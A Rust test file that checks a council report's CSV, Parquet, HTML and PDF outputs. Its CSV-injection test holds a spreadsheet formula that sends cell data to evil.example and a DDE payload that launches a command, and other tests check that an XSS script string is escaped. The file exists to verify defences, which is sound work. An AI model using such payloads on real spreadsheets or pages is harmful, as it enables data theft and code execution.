//! The report's files (issue 6, outputs): CSV and Parquet read back with polars give the model's
//! rows and columns for every table, empty or not; the same report always gives the same bytes;
//! the committee paper escapes text, withholds small counts in the public edition, and prints
//! to a PDF of sensible length in headless Chromium.

#![expect(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "the helpers of a test report a failure by panicking, as the tests do"
)]

mod fixture;

use std::collections::BTreeMap;
use std::fmt;
use std::io::Cursor;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use api::reports::model::{AnnualReport, Edition, SUPPRESSED_TEXT, TABLES};
use chrono::NaiveDate;
use polars::prelude::*;
use serde::de::{Deserialize, Deserializer, IgnoredAny, MapAccess, Visitor};
use worker::output::{Artifact, render};

/// The keys of a JSON object in the order they were written.
struct KeyOrder(Vec<String>);

impl<'de> Deserialize<'de> for KeyOrder {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct Keys;
        impl<'de> Visitor<'de> for Keys {
            type Value = KeyOrder;
            fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
                f.write_str("an object")
            }
            fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<KeyOrder, A::Error> {
                let mut keys = Vec::new();
                while let Some(key) = map.next_key::<String>()? {
                    map.next_value::<IgnoredAny>()?;
                    keys.push(key);
                }
                Ok(KeyOrder(keys))
            }
        }
        d.deserialize_map(Keys)
    }
}

/// The serde field names of a table's rows, in declaration order (`Figure` flattened), from
/// the model's own serialisation of its first row.
fn serde_columns(report: &AnnualReport, table: &str) -> Vec<String> {
    let first = match table {
        "summary" => serde_json::to_string(&report.summary[0]),
        "by_service" => serde_json::to_string(&report.by_service[0]),
        "by_stage" => serde_json::to_string(&report.by_stage[0]),
        "by_restriction_type" => serde_json::to_string(&report.by_restriction_type[0]),
        "service_by_restriction_type" => {
            serde_json::to_string(&report.service_by_restriction_type[0])
        }
        "monthly" => serde_json::to_string(&report.monthly[0]),
        "policy_checks" => serde_json::to_string(&report.policy_checks[0]),
        "cases" => serde_json::to_string(&report.cases[0]),
        other => panic!("unknown table {other}"),
    }
    .unwrap();
    serde_json::from_str::<KeyOrder>(&first).unwrap().0
}

/// The model's rows of a table as JSON objects (the field names of the structs, as serde writes
/// them): the expectation the files are compared with.
fn model_rows(report: &AnnualReport, table: &str) -> Vec<serde_json::Value> {
    let whole = serde_json::to_value(report).unwrap();
    whole[table].as_array().unwrap().clone()
}

/// The type every column must have, by the contract: counts nullable Int64, flags Boolean,
/// dates Date, everything else String.
fn contract_dtype(column: &str) -> DataType {
    match column {
        "count" | "previous_count" => DataType::Int64,
        "count_suppressed" | "previous_count_suppressed" | "policy_followed" => DataType::Boolean,
        "opened_on" | "closed_on" => DataType::Date,
        _ => DataType::String,
    }
}

/// A cell of a frame as the JSON value serde writes for the model's field.
fn json_cell(column: &Column, row: usize) -> serde_json::Value {
    match column.get(row).unwrap() {
        AnyValue::Null => serde_json::Value::Null,
        AnyValue::Int64(n) => n.into(),
        AnyValue::Boolean(b) => b.into(),
        AnyValue::String(s) => s.into(),
        AnyValue::StringOwned(s) => s.as_str().into(),
        AnyValue::Date(days) => {
            let date = NaiveDate::from_ymd_opt(1970, 1, 1).unwrap()
                + chrono::Duration::days(i64::from(days));
            date.format("%Y-%m-%d").to_string().into()
        }
        other => panic!("unexpected value {other:?} in {}", column.name()),
    }
}

fn artifact<'a>(artifacts: &'a [Artifact], name: &str) -> &'a Artifact {
    artifacts
        .iter()
        .find(|a| a.name == name)
        .unwrap_or_else(|| panic!("no artifact {name}"))
}

fn read_csv(bytes: &[u8], columns: &[String]) -> DataFrame {
    let schema: Schema = columns
        .iter()
        .map(|c| Field::new(c.as_str().into(), contract_dtype(c)))
        .collect();
    CsvReadOptions::default()
        .with_has_header(true)
        .with_schema(Some(Arc::new(schema)))
        .into_reader_with_file_handle(Cursor::new(bytes.to_vec()))
        .finish()
        .unwrap()
}

fn read_parquet(bytes: &[u8]) -> DataFrame {
    ParquetReader::new(Cursor::new(bytes.to_vec()))
        .finish()
        .unwrap()
}

/// `frame` has exactly `columns` with the contract's types, and the model's rows.
fn assert_frame(frame: &DataFrame, columns: &[String], rows: &[serde_json::Value], what: &str) {
    let names: Vec<String> = frame
        .get_column_names()
        .iter()
        .map(|n| n.to_string())
        .collect();
    assert_eq!(names, columns, "{what}: columns");
    for column in frame.get_columns() {
        assert_eq!(
            column.dtype(),
            &contract_dtype(column.name()),
            "{what}: type of {}",
            column.name()
        );
    }
    assert_eq!(frame.height(), rows.len(), "{what}: row count");
    for (i, expected) in rows.iter().enumerate() {
        for column in frame.get_columns() {
            assert_eq!(
                json_cell(column, i),
                expected[column.name().as_str()],
                "{what}: row {i}, column {}",
                column.name()
            );
        }
    }
}

#[test]
fn csv_and_parquet_read_back_as_the_model_rows_for_every_table() {
    let internal = fixture::report(7, 40, Edition::Internal);
    for edition in [Edition::Internal, Edition::Public] {
        let report = fixture::report(7, 40, edition);
        let artifacts = render(&report).unwrap();
        for table in TABLES {
            let columns = serde_columns(&internal, table);
            let rows = model_rows(&report, table);
            // The public edition has no per-case rows; every other table is filled.
            let public_cases = edition == Edition::Public && *table == "cases";
            assert_eq!(rows.is_empty(), public_cases, "{table} ({edition:?})");
            let csv = &artifact(&artifacts, &format!("{table}.csv")).bytes;
            let header = std::str::from_utf8(csv).unwrap().lines().next().unwrap();
            assert_eq!(header, columns.join(","), "{table}.csv header");
            assert_frame(
                &read_csv(csv, &columns),
                &columns,
                &rows,
                &format!("{table}.csv ({edition:?})"),
            );
            let parquet = &artifact(&artifacts, &format!("{table}.parquet")).bytes;
            assert!(parquet.starts_with(b"PAR1") && parquet.ends_with(b"PAR1"));
            assert_frame(
                &read_parquet(parquet),
                &columns,
                &rows,
                &format!("{table}.parquet ({edition:?})"),
            );
        }
    }
}

#[test]
fn empty_tables_have_the_same_columns_and_types() {
    let full = fixture::report(3, 10, Edition::Internal);
    let empty = fixture::empty(Edition::Public);
    let artifacts = render(&empty).unwrap();
    for table in TABLES {
        let columns = serde_columns(&full, table);
        let csv = &artifact(&artifacts, &format!("{table}.csv")).bytes;
        assert_eq!(
            std::str::from_utf8(csv).unwrap(),
            format!("{}\n", columns.join(",")),
            "{table}.csv is its header alone"
        );
        assert_frame(&read_csv(csv, &columns), &columns, &[], table);
        let parquet = read_parquet(&artifact(&artifacts, &format!("{table}.parquet")).bytes);
        assert_frame(&parquet, &columns, &[], table);
    }
}

#[test]
fn free_text_is_quoted_in_csv_and_empty_text_differs_from_none() {
    let mut report = fixture::report(2, 8, Edition::Internal);
    report.cases[0].restriction_types = String::new();
    report.cases[0].notes = None;
    report.cases[1].notes = Some(String::new());
    let artifacts = render(&report).unwrap();
    let csv = std::str::from_utf8(&artifact(&artifacts, "cases.csv").bytes).unwrap();
    assert!(
        csv.contains("\"Threats to staff, \"\"serious\"\" & repeated\n<script>"),
        "the note is one quoted field: {csv}"
    );
    let columns = serde_columns(&report, "cases");
    let frame = read_csv(csv.as_bytes(), &columns);
    let notes = frame.column("notes").unwrap();
    assert_eq!(json_cell(notes, 0), serde_json::Value::Null);
    assert_eq!(json_cell(notes, 1), serde_json::json!(""));
    assert_eq!(json_cell(notes, 3), serde_json::json!(fixture::NOTE));
    let kinds = frame.column("restriction_types").unwrap();
    assert_eq!(json_cell(kinds, 0), serde_json::json!(""));
}

#[test]
fn text_a_spreadsheet_would_execute_is_neutralised_in_csv_and_kept_in_parquet() {
    // A service and a case note named like formulas (CSV injection): Excel would run them.
    const SERVICE: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Housing\")";
    const NOTE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
    let mut report = fixture::report(2, 8, Edition::Internal);
    report.services[0].name = SERVICE.to_string();
    for row in &mut report.by_service {
        if row.service_code == report.services[0].code {
            row.service_name = SERVICE.to_string();
        }
    }
    report.cases[0].notes = Some(NOTE.to_string());
    report.cases[1].notes = Some("-1 day late, +2 days".to_string());
    let artifacts = render(&report).unwrap();

    let by_service = &artifact(&artifacts, "by_service.csv").bytes;
    let mut reader = ::csv::Reader::from_reader(by_service.as_slice());
    let header = reader.headers().unwrap().clone();
    let name_at = header.iter().position(|h| h == "service_name").unwrap();
    let names: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[name_at].to_string())
        .collect();
    assert!(names.contains(&format!("'{SERVICE}")), "{names:?}");
    assert!(
        names.iter().all(|n| !n.starts_with(['=', '+', '-', '@'])),
        "no cell starts like a formula: {names:?}"
    );

    let cases = &artifact(&artifacts, "cases.csv").bytes;
    let mut reader = ::csv::Reader::from_reader(cases.as_slice());
    let header = reader.headers().unwrap().clone();
    let notes_at = header.iter().position(|h| h == "notes").unwrap();
    let notes: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[notes_at].to_string())
        .collect();
    assert_eq!(notes[0], format!("'{NOTE}"));
    assert_eq!(notes[1], "'-1 day late, +2 days");

    // Parquet is typed data, not a spreadsheet: the names are as the council wrote them.
    let parquet = read_parquet(&artifact(&artifacts, "by_service.parquet").bytes);
    let names = parquet
        .column("service_name")
        .unwrap()
        .str()
        .unwrap()
        .clone();
    assert!(names.into_iter().flatten().any(|n| n == SERVICE));
}

#[test]
fn the_same_report_gives_the_same_bytes_and_every_file() {
    let report = fixture::report(25, 150, Edition::Public);
    let first = render(&report).unwrap();
    let second = render(&report.clone()).unwrap();
    assert_eq!(first, second, "rendering twice gives identical artifacts");

    let mut expected = vec![("report.json".to_string(), "application/json")];
    for table in TABLES {
        expected.push((format!("{table}.csv"), "text/csv; charset=utf-8"));
        expected.push((format!("{table}.parquet"), "application/vnd.apache.parquet"));
    }
    expected.push((
        "committee-paper.html".to_string(),
        "text/html; charset=utf-8",
    ));
    let got: Vec<(String, &str)> = first
        .iter()
        .map(|a| (a.name.clone(), a.content_type))
        .collect();
    assert_eq!(got, expected);

    let json: AnnualReport =
        serde_json::from_slice(&artifact(&first, "report.json").bytes).unwrap();
    assert_eq!(json, report, "report.json is the report");
}

fn paper(report: &AnnualReport) -> String {
    String::from_utf8(
        render(report)
            .unwrap()
            .into_iter()
            .find(|a| a.name == "committee-paper.html")
            .unwrap()
            .bytes,
    )
    .unwrap()
}

#[test]
fn the_paper_escapes_text_from_the_record() {
    let html = paper(&fixture::report(5, 30, Edition::Internal));
    assert!(
        !html.contains("<script"),
        "no markup from the record survives"
    );
    assert!(html.contains("&lt;script&gt;alert(&quot;x&quot;)&lt;&#x2f;script&gt;"));
    assert!(html.contains("Council Tax &amp; Benefits &lt;Revenues&gt;"));
    assert!(
        html.contains("Threats to staff, &quot;serious&quot; &amp; repeated"),
        "the internal edition shows the notes, escaped"
    );
}

/// The text of each `<td>` on the table row whose heading is `label`.
fn row_cells(html: &str, label: &str) -> Vec<String> {
    let start = html
        .find(&format!("<th scope=\"row\">{label}</th>"))
        .unwrap_or_else(|| panic!("no row {label}"));
    let row = &html[start..start + html[start..].find("</tr>").unwrap()];
    row.split("<td")
        .skip(1)
        .map(|cell| {
            let text = &cell[cell.find('>').unwrap() + 1..];
            text[..text.find("</td>").unwrap()].replace('\u{a0}', " ")
        })
        .collect()
}

#[test]
fn the_public_paper_says_withheld_and_shows_no_free_text_and_no_case() {
    let mut report = fixture::report(25, 150, Edition::Public);
    // Even if a public report carried a case with free text, the paper must not print it.
    let mut internal = fixture::report(25, 150, Edition::Internal);
    internal.cases[3].notes = Some("Reasons naming Mrs Example".into());
    report.cases = vec![internal.cases[3].clone()];
    let html = paper(&report);
    assert!(html.contains("Public edition."));
    assert!(!html.contains("not for publication"));
    assert!(!html.contains("Reasons naming Mrs Example"));
    assert!(!html.contains(">Notes<"));
    assert!(
        !html.contains(&internal.cases[3].case_reference),
        "no case is listed"
    );
    // The checks of 8.2 come from their counts, withheld like the rest.
    let told = report
        .policy_checks
        .iter()
        .find(|r| r.check == "customer_told" && r.outcome == "met")
        .unwrap();
    assert_eq!(told.count.is_none(), told.count_suppressed);

    // The summary's police referrals: 3 this year (withheld), 6 the year before.
    let police = report
        .summary
        .iter()
        .find(|r| r.metric == "police_referrals")
        .unwrap();
    assert!(police.figure.count_suppressed);
    let cells = row_cells(&html, "Police referrals");
    assert_eq!(cells[0], SUPPRESSED_TEXT);
    assert_eq!(cells[1], "6");
    assert_eq!(cells[2], "", "no change is given beside a withheld count");
    // Appeals upheld: 9 this year, 2 the year before (withheld).
    let cells = row_cells(&html, "Appeals upheld");
    assert_eq!(cells[..2], ["9".to_string(), SUPPRESSED_TEXT.to_string()]);

    // Every withheld figure of the summary reads "withheld" and never a digit from 1 to 4.
    for row in &report.summary {
        for (count, suppressed) in [
            (row.figure.count, row.figure.count_suppressed),
            (
                row.figure.previous_count,
                row.figure.previous_count_suppressed,
            ),
        ] {
            assert_eq!(count.is_none(), suppressed);
            if let Some(n) = count {
                assert!(!(1..=4).contains(&n), "the fixture withholds {n}");
            }
        }
    }
    assert!(
        html.replace('\u{a0}', " ")
            .matches(&format!("class=\"num suppressed\">{SUPPRESSED_TEXT}</td>"))
            .count()
            > 10
    );
}

#[test]
fn the_internal_paper_is_marked_and_shows_every_count() {
    let report = fixture::report(25, 150, Edition::Internal);
    let html = paper(&report);
    assert!(html.contains("Internal: not for publication"));
    assert!(
        html.contains("INTERNAL: NOT FOR PUBLICATION"),
        "on every printed page"
    );
    assert!(!html.contains(&format!(">{SUPPRESSED_TEXT}<")));
    assert!(!html.contains("num suppressed"));
    let cells = row_cells(&html, "Police referrals");
    assert_eq!(cells[..3], ["3", "6", "down 3"].map(String::from));
    // Every figure of the summary, with its previous year beside it.
    for row in &report.summary {
        let label = api::reports::model::METRICS
            .iter()
            .find(|(m, _)| *m == row.metric)
            .unwrap()
            .1;
        let cells = row_cells(&html, label);
        let show = |n: Option<i64>| {
            let n = n.unwrap();
            if n >= 1000 {
                format!("{},{:03}", n / 1000, n % 1000)
            } else {
                n.to_string()
            }
        };
        assert_eq!(cells[0], show(row.figure.count), "{label}");
        assert_eq!(cells[1], show(row.figure.previous_count), "{label}");
    }
}

#[test]
fn the_paper_has_its_charts_with_titles_and_text_alternatives() {
    let html = paper(&fixture::report(25, 150, Edition::Public));
    for id in [
        "chart-restriction-types",
        "chart-services-0",
        "chart-services-1",
        "chart-monthly-0",
        "chart-monthly-1",
    ] {
        assert!(
            html.contains(&format!("<figure class=\"chart\" id=\"{id}\">")),
            "{id}"
        );
        assert!(html.contains(&format!("aria-labelledby=\"{id}-title {id}-desc\"")));
        assert!(html.contains(&format!("<title id=\"{id}-title\">")));
        assert!(html.contains(&format!("<desc id=\"{id}-desc\">Bar chart: ")));
    }
    assert!(html.contains("@page"));
    assert!(html.contains("size: A4;"));
}

// Headless Chromium: the paper prints to a PDF of sensible length.

const CHROMIUM_REQUIRED: [&str; 2] = ["UPC_REQUIRE_CHROMIUM", "UPC_REQUIRE_POSTGRES"];

fn chromium() -> Option<PathBuf> {
    for name in ["chromium", "chromium-browser", "google-chrome"] {
        for dir in std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default()) {
            let candidate = dir.join(name);
            if candidate.is_file() {
                return Some(candidate);
            }
        }
    }
    let debian = PathBuf::from("/usr/bin/chromium");
    debian.is_file().then_some(debian)
}

fn chromium_required() -> bool {
    CHROMIUM_REQUIRED
        .iter()
        .any(|name| std::env::var(name).is_ok_and(|v| v == "1" || v.eq_ignore_ascii_case("true")))
}

/// Run Chromium with `args` on `html`, killing it after two minutes.
fn run_chromium(chromium: &Path, profile: &Path, args: &[String], html: &Path) {
    let mut child = Command::new(chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
            "--no-default-browser-check",
        ])
        .arg(format!("--user-data-dir={}", profile.display()))
        .args(args)
        .arg(format!("file://{}", html.display()))
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("starting chromium");
    let started = Instant::now();
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            if !status.success() {
                let mut err = String::new();
                if let Some(mut e) = child.stderr.take() {
                    use std::io::Read;
                    let _ = e.read_to_string(&mut err);
                }
                panic!("chromium failed ({status}): {err}");
            }
            return;
        }
        if started.elapsed() > Duration::from_secs(120) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("chromium did not finish in 120 s");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Page objects (`/Type /Page`, not `/Pages`) and their sizes in points.
fn pdf_pages(pdf: &[u8]) -> Vec<(f64, f64)> {
    let text = String::from_utf8_lossy(pdf);
    let mut pages = Vec::new();
    let mut rest = text.as_ref();
    while let Some(at) = rest.find("/Type /Page") {
        let after = &rest[at + "/Type /Page".len()..];
        rest = after;
        if after.starts_with('s') {
            continue;
        }
        // The page dictionary: from the object's start to its end.
        let dict_end = after.find("endobj").unwrap_or(after.len());
        let dict = &after[..dict_end];
        let size = dict
            .find("/MediaBox [")
            .map(|m| {
                let nums: Vec<f64> = dict[m + 11..]
                    .split(']')
                    .next()
                    .unwrap_or("")
                    .split_whitespace()
                    .filter_map(|n| n.parse().ok())
                    .collect();
                (nums[2] - nums[0], nums[3] - nums[1])
            })
            .unwrap_or((0.0, 0.0));
        pages.push(size);
    }
    pages
}

#[test]
fn the_paper_prints_to_a4_pdf_in_headless_chromium() {
    let Some(chromium) = chromium() else {
        if chromium_required() {
            panic!(
                "Chromium is required (UPC_REQUIRE_CHROMIUM or UPC_REQUIRE_POSTGRES is set) but not installed: apt-get install -y chromium"
            );
        }
        eprintln!(
            "\n!!!!!!!! CHROMIUM NOT TESTED: chromium is not installed (apt-get install -y chromium) !!!!!!!!\n"
        );
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let mut counts = BTreeMap::new();
    for edition in [Edition::Internal, Edition::Public] {
        let html_path = dir.path().join(format!("paper-{edition:?}.html"));
        std::fs::write(&html_path, paper(&fixture::report(25, 150, edition))).unwrap();
        let pdf_path = dir.path().join(format!("paper-{edition:?}.pdf"));
        run_chromium(
            &chromium,
            &dir.path().join("profile"),
            &[
                format!("--print-to-pdf={}", pdf_path.display()),
                "--no-pdf-header-footer".to_string(),
            ],
            &html_path,
        );
        let pdf = std::fs::read(&pdf_path).expect("chromium wrote the PDF");
        assert!(pdf.starts_with(b"%PDF"), "a PDF");
        let pages = pdf_pages(&pdf);
        assert!(
            (2..=40).contains(&pages.len()),
            "{edition:?}: {} pages",
            pages.len()
        );
        // A4 is 595.3 × 841.9 points; the by-service tables are on landscape pages.
        let a4 = |(w, h): (f64, f64)| (w - 595.3).abs() < 2.0 && (h - 841.9).abs() < 2.0;
        let portrait = pages.iter().filter(|p| a4(**p)).count();
        let landscape = pages.iter().filter(|(w, h)| a4((*h, *w))).count();
        assert_eq!(
            portrait + landscape,
            pages.len(),
            "every page is A4: {pages:?}"
        );
        assert!(portrait >= 2 && landscape >= 1, "{pages:?}");
        counts.insert(format!("{edition:?}"), (pages.len(), portrait, landscape));
        if let Ok(keep) = std::env::var("UPC_KEEP_PAPER") {
            std::fs::copy(
                &pdf_path,
                Path::new(&keep).join(format!("paper-{edition:?}.pdf")),
            )
            .unwrap();
            std::fs::copy(
                &html_path,
                Path::new(&keep).join(format!("paper-{edition:?}.html")),
            )
            .unwrap();
        }
    }
    eprintln!("committee paper pages (total, portrait, landscape): {counts:?}");
}
